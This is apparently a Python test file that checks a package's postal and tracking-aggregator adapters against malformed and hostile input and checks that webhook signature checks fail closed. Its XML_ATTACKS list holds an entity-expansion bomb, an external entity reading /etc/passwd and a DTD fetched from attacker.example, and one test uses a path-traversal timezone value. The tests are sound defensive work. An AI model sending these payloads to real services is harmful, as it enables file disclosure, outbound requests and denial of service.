"""TRK-2: the postal and aggregator adapters treat every payload as untrusted input.

Cainiao, China Post, Yanwen, 4PX, Correos, Poczta Polska, 17TRACK and AfterShip: whatever
arrives — wrong types, oversized or deeply nested documents, XML entities, any field of any
fixture swapped for a value of another type, random JSON — the adapter returns events or
raises ``TrackingParseError``; nothing else escapes. The webhook signature checks answer
False, never raise.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from garant.carriers import (
    aftership,
    cainiao,
    china_post,
    correos,
    fourpx,
    get_adapter,
    poczta_polska,
    track17,
    yanwen,
)
from garant.carriers.base import MAX_PAYLOAD_BYTES
from garant.domain.tracking import TrackingParseError

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "carriers"
MODULES = [cainiao, china_post, yanwen, fourpx, correos, poczta_polska, track17, aftership]
SLUGS = [module.ADAPTER.slug for module in MODULES]
JSON_SLUGS = [slug for slug in SLUGS if slug != "poczta_polska"]

XML_ATTACKS = [
    b"""<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
]><Envelope><Body><x>&c;</x></Body></Envelope>""",
    b"""<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<Envelope><Body><x>&x;</x></Body></Envelope>""",
    b"""<?xml version="1.0"?><!DOCTYPE Envelope SYSTEM "http://attacker.example/e.dtd">
<Envelope/>""",
]


def _assert_contained(slug: str, payload: object) -> None:
    try:
        result = get_adapter(slug).parse(payload)  # type: ignore[arg-type]
    except TrackingParseError:
        return
    assert isinstance(result, list)


def test_trk2_the_eight_new_adapters_are_registered():
    assert SLUGS == [
        "cainiao", "china_post", "yanwen", "4px", "correos", "poczta_polska", "17track",
        "aftership",
    ]  # fmt: skip
    assert all(get_adapter(slug).name for slug in SLUGS)


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.parametrize("payload", [None, 42, 4.2, ["a"], {"a": 1}, object(), bytearray(b"{}")])
def test_trk2_wrong_payload_types_raise_parse_error(slug, payload):
    with pytest.raises(TrackingParseError):
        get_adapter(slug).parse(payload)


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.parametrize(
    "payload",
    ["", " ", "null", "42", '"text"', "[]", "{}", "[1, 2]", '{"a": NaN}', "<a/>", "{", "\x00",
     b"\xff\xfe\x00garbage", b'{"module": "\xe9"}', '{"data": 1e400}'],
)  # fmt: skip
def test_trk2_malformed_documents_raise_parse_error(slug, payload):
    with pytest.raises(TrackingParseError):
        get_adapter(slug).parse(payload)


@pytest.mark.parametrize("slug", SLUGS)
def test_trk2_payload_over_the_size_limit_is_refused_before_parsing(slug):
    huge = b'{"x": "' + b"a" * MAX_PAYLOAD_BYTES + b'"}'
    with pytest.raises(TrackingParseError, match="exceeds"):
        get_adapter(slug).parse(huge)


@pytest.mark.parametrize("slug", JSON_SLUGS)
@pytest.mark.parametrize("depth", [100, 200_000])
def test_trk2_deeply_nested_json_raises_parse_error(slug, depth):
    with pytest.raises(TrackingParseError):
        get_adapter(slug).parse("[" * depth + "]" * depth)


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.parametrize("payload", XML_ATTACKS, ids=["entity_bomb", "external_entity", "dtd"])
def test_trk2_xml_entities_raise_parse_error(slug, payload):
    with pytest.raises(TrackingParseError):
        get_adapter(slug).parse(payload)


@pytest.mark.parametrize("slug", JSON_SLUGS)
@pytest.mark.parametrize(
    "value", [10**400, -1, 0, 1e300, 4_102_444_800_001, True, "GMT+99", "UTC../../etc/passwd"]
)
def test_trk2_absurd_times_and_zones_raise_parse_error(slug, value):
    documents = {
        "cainiao": {"success": True, "module": [{"mailNo": "X", "detailList": [
            {"time": value, "timeZone": value if isinstance(value, str) else "GMT+8",
             "actionCode": "GWMS_ACCEPT"}]}]},
        "china_post": {"responseState": True, "responseItems": [
            {"traceNo": "X", "opTime": value, "opCode": "EMA"}]},
        "yanwen": {"code": 0, "result": [{"tracking_number": "X", "checkpoints": [
            {"time_stamp": value, "time_zone": value, "tracking_status": "PU10"}]}]},
        "4px": {"result": 1, "data": [{"queryCode": "X", "tracks": [
            {"tkCode": "FPX_S_OK", "tkDateStr": value, "tkTimezone": value}]}]},
        "correos": {"shipment": [{"shipmentCode": "X", "events": [
            {"eventDate": value, "eventTime": value, "summaryText": "Admitido"}]}]},
        "17track": {"event": "TRACKING_UPDATED", "data": {"number": "X", "track_info": {
            "tracking": {"providers": [{"events": [{"time_iso": value, "time_utc": value,
                                                    "time_raw": {"date": value}}]}]}}}},
        "aftership": {"msg": {"tracking_number": "X", "checkpoints": [
            {"checkpoint_time": value, "tag": "InTransit"}]}},
    }  # fmt: skip
    with pytest.raises(TrackingParseError):
        get_adapter(slug).parse(json.dumps(documents[slug]))


# --- every fixture, every field, every wrong type ------------------------------------------

WRONG_VALUES: list[Any] = [None, True, 7, -1.5, "", "garbage", [], {}, [{"x": 1}], "9" * 60]


def _paths(node: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(node, dict):
        for key, value in node.items():
            yield (*prefix, key)
            yield from _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node[:3]):  # the first few items show every shape
            yield (*prefix, index)
            yield from _paths(value, (*prefix, index))


def _replaced(document: Any, path: tuple[Any, ...], value: Any) -> Any:
    mutated = copy.deepcopy(document)
    holder = mutated
    for step in path[:-1]:
        holder = holder[step]
    holder[path[-1]] = value
    return mutated


def _json_fixtures() -> list[tuple[str, Path]]:
    return [(slug, f) for slug in JSON_SLUGS for f in sorted((FIXTURES / slug).glob("*.json"))]


@pytest.mark.parametrize(("slug", "fixture"), _json_fixtures(), ids=lambda v: getattr(v, "name", v))
def test_trk2_any_field_of_any_fixture_swapped_for_a_wrong_type_is_contained(slug, fixture):
    document = json.loads(fixture.read_text(encoding="utf-8"))
    for path in _paths(document):
        for value in WRONG_VALUES:
            _assert_contained(slug, json.dumps(_replaced(document, path, value)))


def test_trk2_every_new_fixture_is_exercised():
    assert {slug for slug, _ in _json_fixtures()} == set(JSON_SLUGS)
    assert len(list((FIXTURES / "poczta_polska").glob("*.xml"))) >= 5


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda children: st.lists(children, max_size=4)
    | st.dictionaries(
        st.sampled_from(
            ["success", "module", "mailNo", "detailList", "time", "timeStr", "timeZone",
             "actionCode", "responseState", "responseItems", "traceNo", "opTime", "code",
             "result", "tracking_number", "checkpoints", "time_stamp", "time_zone", "data",
             "queryCode", "tracks", "tkDateStr", "tkTimezone", "shipment", "shipmentCode",
             "events", "eventDate", "event", "number", "track_info", "tracking", "providers",
             "msg", "checkpoint_time", "tag", "subtag", "status"]
        ),
        children,
        max_size=5,
    ),
    max_leaves=30,
)  # fmt: skip


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(value=json_values, slug=st.sampled_from(JSON_SLUGS))
def test_trk2_random_json_shapes_are_contained(value, slug):
    _assert_contained(slug, json.dumps(value))


@settings(max_examples=200, deadline=None)
@given(text=st.text(max_size=400))
def test_trk2_any_text_at_all_is_contained(text):
    for slug in SLUGS:
        _assert_contained(slug, text)


# --- webhook signatures never raise -------------------------------------------------------

HOSTILE_HEADERS: list[Any] = [
    None, [], "sign", {"sign": None}, {"sign": 12}, {None: "x"}, {"sign": "\x00" * 10_000},
    {"aftership-hmac-sha256": ["a"]}, {"aftership-hmac-sha256": "😀" * 44},
]  # fmt: skip


@pytest.mark.parametrize("module", [track17, aftership], ids=["17track", "aftership"])
@pytest.mark.parametrize("headers", HOSTILE_HEADERS)
@pytest.mark.parametrize("body", [b"{}", "{}", None, 42, b"\xff" * 100])
@pytest.mark.parametrize("secret", ["key", b"key", "", None, 7])
def test_trk2_webhook_signature_check_answers_false_and_never_raises(module, headers, body, secret):
    assert module.verify_signature(headers, body, secret) is False
